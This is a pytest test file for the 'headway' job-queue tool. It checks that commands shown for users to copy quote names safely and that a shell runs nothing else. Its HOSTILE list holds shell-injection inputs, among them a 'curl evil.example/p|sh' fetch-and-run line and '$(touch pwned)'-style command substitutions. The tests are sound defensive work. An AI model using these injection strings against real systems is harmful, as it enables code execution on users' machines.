"""Commands that are shown for people to copy: whatever a name is, a shell gives the command that name and runs nothing
else."""

from __future__ import annotations

import ast
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path
from uuid import UUID

import click
import pytest
from click.testing import CliRunner

import headway
from headway import Headway
from headway.app.doctor.database import examine_database
from headway.cli import main
from headway.errors import HeadwayError
from headway.shell import command, quoted
from headway.testing import drain

HOSTILE = (
    "x; curl evil.example/p|sh #",
    "$(touch pwned)",
    "`touch pwned`",
    "a' 'b\"c",
    "two\nlines; touch pwned",
    "--all",
    "-y",
    "\x1b[2J\u202etouch pwned\\",
    "a && touch pwned & > pwned < x",
    "*?[a-z]{b,c}~!$HOME",
    "é 漢字",
    "\a'; echo code > pwned #",
)
_WORD = r"(?:'[^']*'|\"[^\"]*\"|\$'(?:\\.|[^'\\])*'|[A-Za-z0-9@%+=:./_é漢字-])+"
_COMMAND = re.compile(rf"headway(?: {_WORD})+")


def arguments(text: str, folder: Path) -> list[list[str]]:
    """What a shell makes of the commands in a sentence: the arguments of each. It runs nothing else."""
    found = []
    for shown in _COMMAND.findall(text):
        script = f'headway() {{ printf "%s\\0" "$@"; }}; {shown}'
        ran = subprocess.run(
            ["/bin/bash", "-c", script], cwd=folder, env={"PATH": "/nowhere"}, capture_output=True, check=True
        )
        found.append(ran.stdout.decode().split("\0")[:-1])
    assert list(folder.iterdir()) == [], "something else ran"
    return found


@pytest.fixture
def empty(tmp_path: Path) -> Iterator[Path]:
    folder = tmp_path / "empty"
    folder.mkdir()
    return folder


@pytest.mark.parametrize("name", HOSTILE)
def test_a_shell_without_bashs_quotes_runs_no_name(name: str, empty: Path) -> None:
    """It may take another name for it, but no code."""
    ran = subprocess.run(
        ["/bin/sh", "-c", f"printf '%s\\n' {quoted([name])}"], cwd=empty, capture_output=True, check=True
    )
    assert list(empty.iterdir()) == []
    assert ran.stderr == b""


@pytest.mark.parametrize("name", HOSTILE)
def test_each_word_comes_back_as_it_was(name: str, empty: Path) -> None:
    assert arguments(f"headway {quoted(['show', name, 'b'])}", empty) == [["show", name, "b"]]
    (words,) = arguments(command("trains show", name, tenant=name, limit=None, first=True), empty)
    flag = [f"--tenant={name}"] if name.startswith("-") else ["--tenant", name]
    names = ["--", name] if name.startswith("-") else [name]
    first = [*names, *flag, "--first"] if names == [name] else [*flag, "--first", *names]
    assert words == ["trains", "show", *first]
    assert "\n" not in quoted([name])
    assert "\x1b" not in quoted([name])


@pytest.mark.parametrize("name", HOSTILE)
def test_most_nouns_take_no_such_name(app: Headway, name: str) -> None:
    """What the others accept is in the next test."""
    makers = (
        lambda: app.enqueue("k", queue=name),
        lambda: app.enqueue(name),
        lambda: app.tenant(name).enqueue("k"),
        lambda: app.create_template(name, "k", {}),
        lambda: app.create_schedule(name, "0 2 * * *", kind="k"),
        lambda: app.create_trigger(name, event="e", kind="k"),
        lambda: app.create_connector(name, "https://shop.example"),
        lambda: app.emit(name, {}),
        lambda: app.enqueue("k", tags=[name]),
        lambda: app.signal(app.enqueue("k").id, name),
    )
    for make in makers:
        with pytest.raises(HeadwayError):
            make()


@pytest.mark.parametrize("name", HOSTILE)
def test_wherever_a_name_is_shown_in_a_command(app: Headway, url: str, name: str, empty: Path) -> None:
    @app.job(max_attempts=1)
    def work() -> None:
        raise ValueError(name)

    acme = app.tenant("acme")
    cars = [acme.enqueue("work", train=name, on_dead="hold", correlation_id=name) for _ in range(3)]
    drain(app)

    problems = [*app.overview().problems, *acme.overview().problems]
    texts = [each.fix for each in problems if each.what == "held_train"]
    texts += [*acme.why(UUID(cars[1].id)).reasons]
    texts += [f"{each.detail} {each.fix}" for each in examine_database(app, "default") if each.name == "trains"]
    typed = (
        ["trains", "list"],
        ["trains", "show", "--tenant", "acme", "--", name],
        ["trains", "show", "--", name],
        ["jobs", "list", "--limit", "1", f"--correlation-id={name}"],
    )
    runner = CliRunner()
    texts += [runner.invoke(main, ["--url", url, *words]).output for words in typed]
    places = [words for text in texts for words in arguments(text, empty)]
    of_train = [words[words.index("trains") :] for words in places if name in words and "trains" in words]
    assert {words[1] for words in of_train} >= {"resume", "show", "clear"}
    assert not name.startswith("-") or all(words[words.index(name) - 1] == "--" for words in of_train)
    assert any(
        "--correlation-id" in words[i] and name in words[i + 1] for words in places for i in range(len(words) - 1)
    )


def test_commands_are_made_by_one_function() -> None:
    """No f-string writes a command around a value, but for two, whose value is a verb of ours."""
    source = Path(headway.__file__).parent
    made = re.compile(rf"\bheadway ({'|'.join(main.list_commands(click.Context(main)))})( [a-z]+)*( --?[a-z-]+)* $")
    found: list[str] = []
    for file in sorted(source.rglob("*.py")):
        for node in ast.walk(ast.parse(file.read_text())):
            if isinstance(node, ast.JoinedStr):
                before = ""
                for part in node.values:
                    if isinstance(part, ast.Constant):
                        before = str(part.value)
                    elif made.search(before) and isinstance(part, ast.FormattedValue):
                        found.append(f"{file.relative_to(source)}: {ast.unparse(part.value)}")
    assert found == ["cli/jobs/several_jobs.py: verb", "dashboard/pages/bulk.py: action"]


def test_the_kind_of_an_inactive_definition_and_a_suspended_tenant_are_names(app: Headway, empty: Path) -> None:
    app.change_definition("k", active=False)
    with pytest.raises(HeadwayError) as refused:
        app.enqueue("k")
    assert arguments(str(refused.value), empty) == [["definitions", "activate", "k"]]
